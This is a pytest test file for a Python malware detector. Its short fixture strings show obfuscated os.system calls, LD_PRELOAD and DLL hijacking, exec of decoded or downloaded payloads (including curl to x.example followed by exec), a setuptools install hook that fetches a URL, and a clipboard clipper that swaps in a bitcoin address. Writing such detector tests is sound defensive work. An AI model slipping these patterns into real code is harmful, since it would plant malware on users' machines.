"""The attack families of issue 16: each found at its statement, each look-alike kept but lowered."""

from __future__ import annotations

import json

import pytest

from governance import RULES
from governance.detectors.plugins import load_plugins
from governance.detectors.python_ast import analyze_python
from governance.scoring import FEATURES, WEIGHTS_FILE


def strong(source: str, path: str = "step.py") -> set[tuple[str, int]]:
    findings, _ = analyze_python(source, path)
    return {(f.rule, f.line) for f in findings if not (f.severity == "low" and f.confidence == "low")}


def lowered(source: str, path: str = "step.py") -> set[tuple[str, int]]:
    findings, _ = analyze_python(source, path)
    return {(f.rule, f.line) for f in findings if f.severity == "low" and f.confidence == "low"}


@pytest.mark.parametrize(
    ("source", "rule", "line"),
    [
        ("import operator, os\nrun = operator.methodcaller('sys' + 'tem', 'id')\nrun(os)\n", "api-obfuscation", 3),
        ("import os\nfn = eval('o' + 's.sys' + 'tem')\n", "api-obfuscation", 2),
        ("import operator, os\noperator.attrgetter('po' + 'pen')(os)('id')\n", "api-obfuscation", 2),
        ("import ctypes\nu = ctypes.windll.user32\nu.OpenClipboard(0)\n", "clipboard-access", 3),
        ("import subprocess\nsubprocess.check_output(['xclip', '-o'])\n", "clipboard-access", 2),
        ("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n", "dll-hijacking", 2),
        ("import os, subprocess\nsubprocess.Popen(['ls'], env={'LD_PRELOAD': os.getcwd() + '/h.so'})\n",
         "dll-hijacking", 2),
        ("import ctypes, sys\nctypes.CDLL(sys.argv[1])\n", "dll-hijacking", 2),
        ("import os, tempfile\nos.add_dll_directory(tempfile.gettempdir())\n", "dll-hijacking", 2),
        ("import socket\ns = socket.socket()\nparts = []\nparts.append(s.recv(9))\nexec(b''.join(parts))\n",
         "download-execute", 5),
        ("out = ''\nfor b in [1, 2]:\n    out += chr(b ^ 7)\nexec(out)\n", "exec-base64", 4),
        ("import base64, marshal, types\ntypes.FunctionType(marshal.loads(base64.b64decode('AA==')), {})\n",
         "exec-base64", 2),
        ("import base64\nclass L:\n    def __init__(self, b):\n        self.p = base64.b64decode(b)\n"
         "    def run(self):\n        exec(self.p)\n", "exec-base64", 6),
        ("import urllib.request\nS = None\ndef f():\n    global S\n    S = urllib.request.urlopen('u').read()\n"
         "def g():\n    exec(S)\n", "download-execute", 7),
        ("import subprocess\nc = subprocess.check_output(['curl', '-s', 'https://x.example/c.py'])\nexec(c)\n",
         "download-execute", 3),
        ("import base64, ctypes\nsc = base64.b64decode('kJA=')\nctypes.windll.kernel32.RtlMoveMemory(1, sc, 2)\n",
         "exec-base64", 3),
    ],
)  # fmt: skip
def test_each_family_is_found_on_its_statement_line(source: str, rule: str, line: int):
    assert (rule, line) in strong(source)


def test_an_install_override_that_downloads_is_flagged_on_the_class_and_the_registration():
    source = (
        "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n        urllib.request.urlopen('https://x.example/p')\n"
        "setup(name='x', cmdclass={'install': I})\n"
    )
    found = strong(source, "setup.py")
    assert {("install-hook", 4), ("install-hook", 6), ("install-hook", 7)} <= found


def test_an_override_that_only_runs_cmake_is_kept_but_lowered():
    source = (
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n"
        "class B(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '..'])\n"
        "setup(name='x', cmdclass={'build_ext': B})\n"
    )
    assert not {r for r, _ in strong(source, "setup.py")} & {"install-hook"}
    assert {("install-hook", 4), ("install-hook", 6), ("install-hook", 7)} <= lowered(source, "setup.py")


def test_clipboard_in_tests_and_write_only_clipboard_are_lowered_not_dropped():
    assert ("clipboard-access", 2) in lowered("import pyperclip\npyperclip.paste()\n", "tests/test_x.py")
    assert ("clipboard-access", 2) in lowered("import pyperclip\npyperclip.copy('done')\n")
    clipper = "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')\n"
    assert {("clipboard-access", 2), ("clipboard-access", 3)} <= strong(clipper)


def test_libraries_beside_the_package_and_system_libraries_are_not_hijacking():
    source = (
        "import ctypes, ctypes.util, os\nctypes.CDLL(ctypes.util.find_library('c'))\nctypes.CDLL('libm.so.6')\n"
        "os.add_dll_directory(os.path.join(os.path.dirname(__file__), 'pkg.libs'))\n"
    )
    findings, _ = analyze_python(source, "x.py")
    assert not [f for f in findings if f.rule == "dll-hijacking"]


def test_every_plugin_is_named_beside_a_rule_and_every_rule_has_a_detector():
    assert all(rule.detector for rule in RULES.values())
    names = {plugin.name for plugin in load_plugins()}
    assert names == {
        r.detector.removeprefix("plugins.") for r in RULES.values() if r.detector.startswith("plugins.")
    }


def test_the_fitted_weights_are_data_with_no_negative_weight():
    data = json.loads(WEIGHTS_FILE.read_text())
    assert set(data["weights"]) == set(FEATURES)
    assert all(weight >= 0 for weight in data["weights"].values())
